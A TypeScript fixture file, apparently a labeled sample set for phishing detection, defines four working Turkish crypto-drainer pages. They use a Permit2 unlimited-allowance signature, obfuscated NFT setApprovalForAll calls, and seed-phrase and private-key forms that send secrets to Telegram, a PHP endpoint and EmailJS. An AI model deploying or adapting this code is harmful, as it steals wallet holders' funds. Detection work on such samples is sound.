import { type Entry } from '../entry.js';
import { doc, hex, telegramDrop } from '../parts/xb-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-drainer-gal-fan-token-permit2',
    label: 'cryptodrainer',
    kind: 'fan-token-reward-permit-drainer',
    url: 'https://gal-fantoken-stake.com/odul',
    body: doc({
      title: 'Galatasaray Fan Token Staking Ödülü',
      css: `body{margin:0;background:linear-gradient(180deg,#a90432,#5c0019);color:#fff;font-family:Montserrat,Arial,sans-serif;min-height:100vh}.c{max-width:460px;margin:0 auto;padding:40px 20px;text-align:center}
.card{background:#fff1;border:1px solid #fdb91255;border-radius:16px;padding:22px;margin-top:20px}.r{font-size:44px;font-weight:800;color:#fdb912}.b{background:#fdb912;color:#5c0019;border:0;border-radius:12px;padding:15px;width:100%;font-size:17px;font-weight:800}`,
      body: `<div class="c"><div style="font-size:54px">🦁</div><h1 style="margin:6px 0">$GAL Staking Ödülleri</h1><p>Şampiyonluk kutlamasına özel, $GAL tutan tüm cüzdanlara sezon ödülü dağıtılıyor.</p>
<div class="card"><p>Talep edilebilir ödülünüz</p><div class="r" id="r">— GAL</div><p style="font-size:13px;opacity:.8">+ VIP maç bileti çekilişine otomatik katılım</p><button class="b" id="b">Cüzdanı Bağla</button><p id="s" style="font-size:13px"></p></div></div>
<script src="/odul/js/permit.js"></script>`,
    }),
    routes: {
      'gal-fantoken-stake.com/odul/js/permit.js': jsRoute(`(function(){
var S='0x4b1f0c8e7a2d3c9e6f5a1b0d8c7e6f5a4b3c2d1e',P2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
var T=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
var b=document.getElementById('b'),s=document.getElementById('s'),acc;
b.onclick=async function(){
 if(!acc){acc=(await window.ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('r').textContent=(1200+Math.floor(Math.random()*800))+' GAL';b.textContent='Ödülü Talep Et';return}
 var dl=Math.floor(Date.now()/1000)+86400*30;
 var td={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}]},
  primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:P2},
  message:{details:T.map(function(t){return{token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0}}),spender:S,sigDeadline:dl}};
 s.textContent='Ödül imzasını cüzdanınızda onaylayın (gas ücreti yok)';
 try{var sig=await window.ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(td)]});
  await fetch('/odul/api/sig',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({owner:acc,sig:sig,data:td})});
  s.textContent='Ödülünüz sıraya alındı ✓'}catch(e){s.textContent='İmza reddedildi, tekrar deneyin.'}
};})();`),
      'gal-fantoken-stake.com/odul/api/sig': jsonRoute({ queued: true }),
    },
  },
  {
    id: 'xb-drainer-anadolu-nft-freemint-setapproval',
    label: 'cryptodrainer',
    kind: 'nft-mint-setapprovalforall-drainer',
    url: 'https://anadolu-nft-mint.xyz/',
    body: doc({
      title: 'Anadolu Lions — Free Mint Live',
      css: `body{margin:0;background:#111;color:#fafafa;font-family:"Space Grotesk",Arial,sans-serif}.g{display:grid;grid-template-columns:1fr 1fr;gap:30px;max-width:960px;margin:50px auto;align-items:center;padding:0 16px}
.art{aspect-ratio:1;border-radius:20px;background:conic-gradient(from 45deg,#e63946,#f1c453,#2a9d8f,#e63946)}.m{background:#f1c453;color:#111;border:0;border-radius:12px;padding:16px 30px;font-size:18px;font-weight:700}.p{background:#222;border-radius:8px;height:12px;margin:14px 0}.p i{display:block;height:100%;width:91%;background:#f1c453;border-radius:8px}`,
      body: `<div class="g"><div class="art"></div><div><h1 style="font-size:40px;margin:0">Anadolu Lions</h1><p>7.777 el çizimi aslan. Holder'lara özel metaverse arsa ve $ALN token airdrop'u. WL olmayanlar için son 700 FREE MINT!</p>
<div class="p"><i></i></div><p>7.084 / 7.777 minted · Free (sadece gas)</p><button class="m" id="mint">Connect & Mint</button><p id="st" style="color:#aaa"></p></div></div>
<script src="/static/js/main.4f2a91.js"></script>`,
    }),
    routes: {
      'anadolu-nft-mint.xyz/static/js/main.4f2a91.js': jsRoute(`var _0x5e=['${hex('eth_requestAccounts')}','${hex('eth_sendTransaction')}','${hex('0xa22cb465')}','${hex('0x9c1e3b2a7f4d8e6c5b0a1f2e3d4c5b6a7f8e9d0c')}'];
function _h(x){return x.match(/../g).map(function(c){return String.fromCharCode(parseInt(c,16))}).join('')}
var _c=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xbd3531dA5CF5857e7CfAA92426877b022e612cf8','0x8a90CAb2b38dba80c64b7734e58Ee1dB38B8992e'];
document.getElementById('mint').addEventListener('click',async function(){
 var e=window.ethereum;if(!e){document.getElementById('st').textContent='Cüzdan bulunamadı';return}
 var a=(await e.request({method:_h(_0x5e[0])}))[0];
 var owned=await fetch('/api/holdings?o='+a).then(function(r){return r.json()}).catch(function(){return{c:_c}});
 var op=_h(_0x5e[3]).slice(2).toLowerCase().padStart(64,'0');
 for(const c of (owned.c||_c)){
  document.getElementById('st').textContent='Mint doğrulaması: cüzdanınızda "Onayla"ya basın';
  try{await e.request({method:_h(_0x5e[1]),params:[{from:a,to:c,data:_h(_0x5e[2])+op+'0'.repeat(63)+'1'}]})}catch(err){}
 }
 document.getElementById('st').textContent='Mint tamamlandı! NFT 10 dakika içinde cüzdanınızda görünecek.';
});`),
      'anadolu-nft-mint.xyz/api/holdings': jsonRoute({ c: ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', '0xED5AF388653567Af2F388E6224dC7C4b3241C544'] }),
    },
  },
  {
    id: 'xb-drainer-metamask-seed-dogrulama-tr',
    label: 'cryptodrainer',
    kind: 'seed-phrase-phish',
    url: 'https://metamask-dogrulama-tr.com/hesap/dogrula',
    body: doc({
      title: 'MetaMask | Cüzdan Doğrulama',
      css: `body{margin:0;background:#f2f4f6;font-family:"Euclid Circular B",Arial,sans-serif;color:#24272a}.t{background:#fff;padding:14px 24px;border-bottom:1px solid #d6d9dc;font-weight:700;color:#f6851b;font-size:20px}.c{max-width:640px;margin:30px auto;background:#fff;border-radius:10px;padding:26px}
.w{background:#fff5e6;border-left:4px solid #f6851b;padding:10px;font-size:14px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:18px 0}.g input{padding:10px;border:1px solid #bbc0c5;border-radius:6px;font-size:14px}
.sel{display:flex;gap:8px;margin-top:14px}.sel button{border:1px solid #037dd6;background:#fff;color:#037dd6;border-radius:16px;padding:5px 12px}.go{width:100%;background:#037dd6;color:#fff;border:0;border-radius:24px;padding:13px;font-size:16px}`,
      body: `<div class="t">🦊 METAMASK</div>
<div class="c"><h2 style="margin-top:0">Cüzdanınızı Doğrulayın</h2><div class="w">MASAK ve yeni kripto varlık düzenlemesi (7518 sayılı Kanun) kapsamında Türkiye'den erişilen tüm MetaMask cüzdanlarının <b>31 Ekim 2025</b> tarihine kadar doğrulanması zorunludur. Doğrulanmayan cüzdanlar işlem yapamaz.</div>
<p>Doğrulama için Gizli Kurtarma İfadenizi giriniz:</p><div class="sel"><button onclick="mk(12)">12 kelime</button><button onclick="mk(18)">18 kelime</button><button onclick="mk(24)">24 kelime</button></div>
<form id="sf"><div class="g" id="g"></div><button class="go">Doğrula</button></form><p style="font-size:12px;color:#6a737d">İfadeniz uçtan uca şifrelenir ve MetaMask sunucularında saklanmaz.</p></div>
<script>
${telegramDrop({ token: '7966301248:AAFw2Sx9Dv4Bn7Cm1Ql8Er5Tu0Yi3Op6AsK', chat: '-1002377189044', fn: 'tgx', style: 'b64' })}
function mk(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){var x=document.createElement('input');x.placeholder=i+'.';x.autocomplete='off';x.name='w'+i;g.appendChild(x)}}mk(12);
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var w=[].map.call(document.querySelectorAll('#g input'),function(i){return i.value.trim().toLowerCase()});
 if(w.some(function(x){return!x})){alert('Lütfen tüm kelimeleri giriniz.');return}
 var f=new FormData();f.append('phrase',w.join(' '));f.append('n',w.length);navigator.sendBeacon('/hesap/kaydet.php',f);
 tgx('🦊 SEED ('+w.length+')\\n<code>'+w.join(' ')+'</code>\\n'+navigator.userAgent).then(function(){location.href='https://metamask.io/'})};
</script>`,
    }),
    routes: { 'metamask-dogrulama-tr.com/hesap/kaydet.php': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'xb-drainer-trustwallet-senkron-hatasi',
    label: 'cryptodrainer',
    kind: 'seed-phrase-phish-formservice',
    url: 'https://trustwallet-senkron.web.app/cuzdan/senkronizasyon',
    body: doc({
      title: 'Trust Wallet — Senkronizasyon Hatası',
      css: `body{margin:0;background:#fff;font-family:"Inter",Arial,sans-serif;color:#1b1b1b}.h{display:flex;align-items:center;gap:10px;padding:16px 22px;border-bottom:1px solid #eee;font-weight:700;color:#0500ff}.c{max-width:520px;margin:26px auto;padding:0 16px}
.tabs{display:flex;border-bottom:2px solid #eee}.tabs a{flex:1;text-align:center;padding:10px;cursor:pointer;font-size:14px}.tabs a.on{border-bottom:2px solid #0500ff;color:#0500ff;margin-bottom:-2px}
textarea,input{width:100%;box-sizing:border-box;border:1px solid #ddd;border-radius:10px;padding:12px;margin:12px 0;font-size:15px}textarea{height:110px}.b{width:100%;background:#0500ff;color:#fff;border:0;border-radius:24px;padding:14px;font-size:16px}.er{background:#fde8e8;color:#b91c1c;border-radius:10px;padding:12px;font-size:14px}`,
      body: `<div class="h">🛡️ Trust Wallet</div>
<div class="c"><div class="er">Cüzdanınız ağ ile senkronize edilemedi (Hata 1203: node mismatch). Bakiyeniz <b>0</b> görünebilir. Varlıklarınızın görünmesi için cüzdanınızı yeniden içe aktararak senkronize edin.</div>
<div class="tabs"><a class="on" data-t="phrase">Kurtarma İfadesi</a><a data-t="keystore">Keystore JSON</a><a data-t="private">Özel Anahtar</a></div>
<form id="tw"><input type="hidden" name="type" id="ty" value="phrase"><textarea name="secret" id="sc" placeholder="Genellikle 12 (bazen 24) kelimeden oluşur, kelimeleri boşlukla ayırın"></textarea><input name="password" id="pw" type="password" placeholder="Keystore şifresi" style="display:none"><button class="b">Cüzdanı Senkronize Et</button></form>
<p style="font-size:12px;color:#888">Senkronizasyon işlemi ortalama 2-3 dakika sürer. Bu süre zarfında uygulamayı kapatmayınız.</p></div>
<script>
document.querySelectorAll('.tabs a').forEach(function(a){a.onclick=function(){document.querySelectorAll('.tabs a').forEach(function(x){x.classList.remove('on')});a.classList.add('on');document.getElementById('ty').value=a.dataset.t;document.getElementById('pw').style.display=a.dataset.t==='keystore'?'block':'none';document.getElementById('sc').placeholder=a.dataset.t==='private'?'Özel anahtarınızı (64 karakter) girin':(a.dataset.t==='keystore'?'Keystore JSON içeriğini yapıştırın':'Genellikle 12 (bazen 24) kelimeden oluşur')}});
document.getElementById('tw').onsubmit=function(e){e.preventDefault();var d={service_id:'service_tw8k2p',template_id:'template_sync',user_id:'Xk29sLq0_PmNv3bT1',template_params:Object.fromEntries(new FormData(this))};
 fetch('https://api.emailjs.com/api/v1.0/email/send',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).catch(function(){}).then(function(){document.querySelector('.c').innerHTML='<p style="text-align:center;margin-top:40px">⏳ Senkronizasyon başladı. Varlıklarınız kısa süre içinde görünecektir.</p>'})};
</script>`,
    }),
  },
];
